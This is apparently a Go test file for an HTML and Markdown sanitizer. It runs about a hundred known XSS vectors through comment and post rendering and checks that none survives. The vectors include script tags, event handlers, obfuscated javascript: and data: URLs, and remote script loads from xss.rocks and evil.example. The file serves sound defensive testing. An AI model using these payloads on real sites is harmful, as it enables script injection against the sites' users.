package render

import (
	"strings"
	"testing"
)

// attacks are real XSS vectors (OWASP filter-evasion cheat sheet, html5sec.org, WordPress
// kses bug reports). Every one goes through Comment and through Post in both formats, and
// the output must carry no executable vector and be well-formed.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
	`<script/xss src="http://xss.rocks/xss.js"></script>`,
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<img src="x" onerror="alert(1)"//`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="java&#x0A;script:alert(1)">x</a>`,
	`<a href="java	script:alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
	`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="//evil.example/">protocol-relative</a>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<iframe src=javascript:alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="javascript:alert(1)"></object>`,
	`<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==">`,
	`<style>@import 'http://xss.rocks/xss.css';</style>`,
	`<style>body{background:url("javascript:alert(1)")}</style>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="width: expression(alert(1));">x</div>`,
	`<b style="color:red">x</b>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">CLICKME</maction></math>`,
	`<form action=javascript:alert(1)><input type=submit></form>`,
	`<form><button formaction=javascript:alert(1)>x</button></form>`,
	`<input onfocus=alert(1) autofocus>`,
	`<textarea autofocus onfocus=alert(1)>x</textarea>`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`<<script>script>alert(1)<</script>/script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<meta http-equiv="refresh" content="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<base href=//evil>`,
	`<base href="javascript:alert(1)//">`,
	`<link rel=stylesheet href=javascript:alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<body onload=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<img src="x`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/png;base64,iVBORw0KGgo=">`,
	`<img src="mailto:x@example.com">`,
	`<img srcset="javascript:alert(1) 1x">`,
	`<img dynsrc="javascript:alert(1)">`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<a href="x" onclick="alert(1)">x</a>`,
	`<a href="http://ok.example/" onmouseover=alert(1)>x</a>`,
	`<a href="http://ok.example/"onmouseover=alert(1)>x</a>`,
	`<a """><script>alert(1)</script>">`,
	`<blockquote cite="javascript:alert(1)">q</blockquote>`,
	`<q cite="javascript:alert(1)">q</q>`,
	`<del datetime="x" onclick=alert(1)>d</del>`,
	`<abbr title="x" onmouseover=alert(1)>a</abbr>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE html><script>alert(1)</script>`,
	`<select><template><img src=x onerror=alert(1)></template></select>`,
	`<a href="https://ok.example/">unclosed link`,
	`<b>unclosed bold`,
	`<a href="x`,
	`</b></i></a></blockquote></div></p></body></html>`,
	`<p><blockquote><b>x</p></blockquote>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`%3Cscript%3Ealert(1)%3C/script%3E`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<a href=\"jav\x00ascript:alert(1)\">x</a>",
	"\xff<script>alert(1)</script>",
	// Markdown vectors (harmless as plain HTML, dangerous if a Markdown renderer trusts them).
	`[x](javascript:alert(1))`,
	`[x](JAVASCRIPT:alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	`[x]( javascript:alert(1) )`,
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)`,
	`<javascript:alert(1)>`,
	`<vbscript:msgbox(1)>`,
	"[x][ref]\n\n[ref]: javascript:alert(1)",
	"```html\n<script>alert(1)</script>\n```",
	"<div>\n<script>alert(1)</script>\n</div>",
	"[<img src=x onerror=alert(1)>](http://ok.example)",
	"Footnote[^1]\n\n[^1]: <script>alert(1)</script>",
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
}

func TestCommentAttacks(t *testing.T) {
	r := New()
	for _, in := range attacks {
		out := string(r.Comment(in))
		if reason := unsafeReason(out, true); reason != "" {
			t.Errorf("Comment(%q) = %q: %s", in, out, reason)
		}
		if reason := balancedReason(out); reason != "" {
			t.Errorf("Comment(%q) = %q: %s", in, out, reason)
		}
	}
}

func TestPostAttacks(t *testing.T) {
	r := New()
	for _, format := range []string{FormatMarkdown, FormatHTML} {
		for _, in := range attacks {
			out := string(r.Post(format, in))
			if reason := unsafeReason(out, false); reason != "" {
				t.Errorf("Post(%s, %q) = %q: %s", format, in, out, reason)
			}
			if reason := balancedReason(out); reason != "" {
				t.Errorf("Post(%s, %q) = %q: %s", format, in, out, reason)
			}
		}
	}
}

// The checker itself must catch what it claims to catch, or the tables above prove nothing.
func TestCheckerCatchesVectors(t *testing.T) {
	unsafe := []string{
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href="java&#x09;script:alert(1)">x</a>`,
		`<a href="&#106;avascript:alert(1)">x</a>`,
		`<a href=" JAVASCRIPT:alert(1)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
		`<img src="mailto:x@example.com">`,
		`<div style="color:red">x</div>`,
		`<svg></svg>`,
		`<math></math>`,
		`<form></form>`,
		`<base href="//evil">`,
		`<meta http-equiv="refresh">`,
		`<iframe></iframe>`,
		`<object></object>`,
		`<embed>`,
		`<style></style>`,
		`<details ontoggle="alert(1)"></details>`,
	}
	for _, s := range unsafe {
		if unsafeReason(s, false) == "" {
			t.Errorf("checker missed %q", s)
		}
	}
	commentOnly := []string{
		`<a href="/wp-admin/">x</a>`,
		`<a href="http://x.example/">no rel</a>`,
		`<a href="http://x.example/" rel="nofollow">weak rel</a>`,
		`<img src="http://x.example/i.png">`,
		`<h1>x</h1>`,
	}
	for _, s := range commentOnly {
		if unsafeReason(s, true) == "" {
			t.Errorf("comment checker missed %q", s)
		}
	}
	broken := []string{`<b>x`, `<b><i>x</b></i>`, `</p>`, `<a href="http://x"><a href="http://y">y</a></a>`, `<p><p>x</p></p>`, `<p><blockquote>x</blockquote></p>`, `<b/>`, `<table>x</table>`}
	for _, s := range broken {
		if balancedReason(s) == "" {
			t.Errorf("balance checker missed %q", s)
		}
	}
	if r := balancedReason(`<p>a<br>b <a href="http://x" rel="nofollow ugc noopener">l</a></p><blockquote><p>q</p></blockquote>`); r != "" {
		t.Errorf("balance checker rejects good markup: %s", r)
	}
}

func TestAttackOutputsKeepNoScriptText(t *testing.T) {
	// Not a security property (text is inert), but the sanitizer should drop the bodies of
	// script and style elements rather than show the code as text.
	r := New()
	for _, in := range []string{`<script>alert(1)</script>`, `<style>@import 'x';</style>`} {
		if out := string(r.Comment(in)); strings.Contains(out, "alert") || strings.Contains(out, "@import") {
			t.Errorf("Comment(%q) = %q, want the element's content dropped", in, out)
		}
	}
}
